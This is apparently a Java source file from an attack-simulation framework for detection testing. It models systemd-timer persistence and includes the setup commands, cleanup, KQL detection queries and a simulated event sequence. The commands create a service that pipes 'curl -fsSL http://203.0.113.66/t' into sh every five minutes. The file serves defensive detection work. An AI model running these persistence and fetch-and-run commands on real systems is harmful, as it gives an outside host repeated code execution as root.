package org.conshelf.simulate;

/// A timer runs a service again and again.
final class SystemdTimer {
    private static final String SERVICE = "log-trim.service";
    private static final String TIMER = "log-trim.timer";
    private static final String FETCH = "curl -fsSL http://203.0.113.66/t | sh";

    static final SimulatedTest TEST =
            SimulatedTest.attack(
                            "systemd-timer", "A systemd timer that fetches a script and runs it")
                    .on(SimulatedTest.Platform.LINUX)
                    .techniques("T1053.006", "T1543.002")
                    .behaviour(
                            """
                            A service and a timer are written. The timer is enabled and starts the service every five minutes; the
                            service fetches a script from another host and hands it to a shell.
                            """)
                    .signal(
                            "A .timer and a .service come into being in /etc/systemd/system, written by a shell.",
                            """
                            DeviceFileEvents
                            | where ActionType == "FileCreated" and FolderPath in ("/etc/systemd/system/log-trim.timer", "/etc/systemd/system/log-trim.service")
                            | where InitiatingProcessFileName == "bash"
                            """)
                    .signal(
                            "systemd runs a shell that fetches and runs a script, more than once.",
                            """
                            DeviceProcessEvents
                            | where InitiatingProcessId == 1 and ProcessCommandLine has_all ("curl", "sh") and ProcessCommandLine has "203.0.113.66"
                            | summarize Runs = count() by DeviceName
                            | where Runs > 1
                            """)
                    .commands(
                            """
                            printf '[Service]\\nType=oneshot\\nExecStart=/bin/sh -c "curl -fsSL http://203.0.113.66/t | sh"\\n' \\
                              > /etc/systemd/system/log-trim.service
                            printf '[Timer]\\nOnBootSec=1min\\nOnUnitActiveSec=5min\\n[Install]\\nWantedBy=timers.target\\n' \\
                              > /etc/systemd/system/log-trim.timer
                            systemctl daemon-reload
                            systemctl enable --now log-trim.timer
                            """)
                    .cleanUp(
                            """
                            systemctl disable --now log-trim.timer
                            rm -f /etc/systemd/system/log-trim.timer /etc/systemd/system/log-trim.service
                            systemctl daemon-reload
                            """)
                    .plays(stage -> RootShell.onEachHost(stage, SystemdTimer::play));

    private SystemdTimer() {}

    private static void play(RootShell shell) {
        var host = shell.host();
        shell.writes("/etc/systemd/system/" + SERVICE);
        shell.writes("/etc/systemd/system/" + TIMER);
        shell.reloads();
        var systemctl = shell.types("systemctl", "enable", "--now", TIMER);
        host.enabled(
                systemctl,
                "/etc/systemd/system/timers.target.wants/" + TIMER,
                "/etc/systemd/system/" + TIMER);
        host.started(TIMER, TIMER);
        for (int i = 0; i < 3; i++) {
            host.started(SERVICE, SERVICE);
            var sh = host.serviceProcess("/bin/sh", "-c", FETCH);
            host.run(sh, "curl", "-fsSL", "http://203.0.113.66/t");
            host.run(sh, "sh");
            host.ended(SERVICE);
            host.stage().pass(300_000);
        }
        shell.types("systemctl", "disable", "--now", TIMER);
        host.stopped(TIMER, TIMER);
        var rm =
                shell.types(
                        "rm",
                        "-f",
                        "/etc/systemd/system/" + TIMER,
                        "/etc/systemd/system/" + SERVICE);
        host.deleted(rm, "/etc/systemd/system/" + TIMER);
        host.deleted(rm, "/etc/systemd/system/" + SERVICE);
        shell.reloads();
    }
}
